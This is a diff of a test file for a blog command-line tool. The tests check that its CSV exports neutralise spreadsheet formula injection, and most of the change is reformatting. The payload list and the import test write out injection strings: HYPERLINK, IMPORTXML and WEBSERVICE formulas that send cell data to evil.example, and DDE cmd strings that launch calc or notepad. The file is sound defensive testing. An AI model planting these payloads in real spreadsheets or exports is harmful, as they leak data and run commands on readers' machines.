@@ -40,9 +40,9 @@ const FORMULA = /^[=+\-@\t\r]/;
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C notepad\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C notepad'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '=1+1\r\n=2+2',
@@ -77,19 +77,52 @@ describe('CSV cells that would be formulas are neutralised', () => {
     id = sb.ok(['post', 'create', '--title', 'Formulas', '--status', 'published', '--porcelain']).trim();
     for (const [i, payload] of PAYLOADS.entries()) {
       const result = await run([
-        'comment', 'add', id, '--author', payload, '--email', `r${i}@example.com`, '--user-agent', payload, '--body', `${payload} ${i}`, '--approve',
+        'comment',
+        'add',
+        id,
+        '--author',
+        payload,
+        '--email',
+        `r${i}@example.com`,
+        '--user-agent',
+        payload,
+        '--body',
+        `${payload} ${i}`,
+        '--approve',
       ]);
       expect(result.code).toBe(0);
     }
     for (const payload of ['=SUM(A1:A9)', '+Plus title', '-Minus title', '@At title']) {
-      expect((await run(['post', 'create', '--title', payload, '--category', `=${payload}`, '--tag', `@${payload.slice(1)}`, '--excerpt', `-${payload}`, '--author', `+${payload}`])).code).toBe(0);
+      expect(
+        (
+          await run([
+            'post',
+            'create',
+            '--title',
+            payload,
+            '--category',
+            `=${payload}`,
+            '--tag',
+            `@${payload.slice(1)}`,
+            '--excerpt',
+            `-${payload}`,
+            '--author',
+            `+${payload}`,
+          ])
+        ).code,
+      ).toBe(0);
     }
   });
 
   it('in comment list: author, user agent and body (a url must start with http)', async () => {
     const result = await run(['comment', 'list', '--status', 'all', '--format', 'csv', '--fields', 'id,author,url,userAgent,body']);
     expect(result.code).toBe(0);
-    expectNeutral(result.stdout, ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'+1+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1 4"]);
+    expectNeutral(result.stdout, [
+      '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      "'+1+cmd|' /C calc'!A0",
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "'=1+1 4",
+    ]);
   });
 
   it('in the default comment columns', async () => {
@@ -107,7 +140,10 @@ describe('CSV cells that would be formulas are neutralised', () => {
     const rows = parseCsv(result.stdout);
     expect(rows.find((row) => row[0] === 'Formulas')).toEqual(['Formulas', '1']);
     const plain = await run(['post', 'create', '--title', 'a=b+c-d@e', '--porcelain']);
-    expect(parseCsv((await run(['post', 'list', '--format', 'csv', '--fields', 'id,title'])).stdout)).toContainEqual([plain.stdout.trim(), 'a=b+c-d@e']);
+    expect(parseCsv((await run(['post', 'list', '--format', 'csv', '--fields', 'id,title'])).stdout)).toContainEqual([
+      plain.stdout.trim(),
+      'a=b+c-d@e',
+    ]);
   });
 });
 
@@ -116,7 +152,10 @@ describe('CSV of a hand-edited post file, which nothing cleaned on the way in', 
     const id = sb.ok(['post', 'create', '--title', 'Hand', '--porcelain']).trim();
     const file = path.join(sb.env.TERMPRESS_BLOG!, 'posts', `${id}.json`);
     const post = JSON.parse(readFileSync(file, 'utf8'));
-    writeFileSync(file, JSON.stringify({ ...post, title: '\t=1+1', excerpt: '\r=2+2', categories: ['\t@cat'], tags: ['\r\n+tag'] }, null, 2));
+    writeFileSync(
+      file,
+      JSON.stringify({ ...post, title: '\t=1+1', excerpt: '\r=2+2', categories: ['\t@cat'], tags: ['\r\n+tag'] }, null, 2),
+    );
     const result = await run(['post', 'list', '--format', 'csv', '--fields', 'id,title,excerpt,categories,tags']);
     expect(result.code).toBe(0);
     const row = parseCsv(result.stdout).find((cells) => cells[0] === id)!;
@@ -135,15 +174,23 @@ describe('CSV of a WordPress import', () => {
         wxrItem({
           id: 1,
           title: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
-          terms: [['category', '+Cat', 'cat'], ['post_tag', '@Tag', 'tag']],
+          terms: [
+            ['category', '+Cat', 'cat'],
+            ['post_tag', '@Tag', 'tag'],
+          ],
           comments: [{ id: 11, author: '-Reader', body: '=WEBSERVICE("http://evil.example/")' }],
         }),
       ]),
     );
     expect((await run(['import', file])).code).toBe(0);
     expectNeutral((await run(['post', 'list', '--format', 'csv', '--fields', 'title,categories,tags'])).stdout, [
-      "'=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "'+Cat", "'@Tag",
+      '\'=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+      "'+Cat",
+      "'@Tag",
     ]);
-    expectNeutral((await run(['comment', 'list', '--status', 'all', '--format', 'csv', '--fields', 'author,body'])).stdout, ["'-Reader", "'=WEBSERVICE(\"http://evil.example/\")"]);
+    expectNeutral((await run(['comment', 'list', '--status', 'all', '--format', 'csv', '--fields', 'author,body'])).stdout, [
+      "'-Reader",
+      '\'=WEBSERVICE("http://evil.example/")',
+    ]);
   });
 });
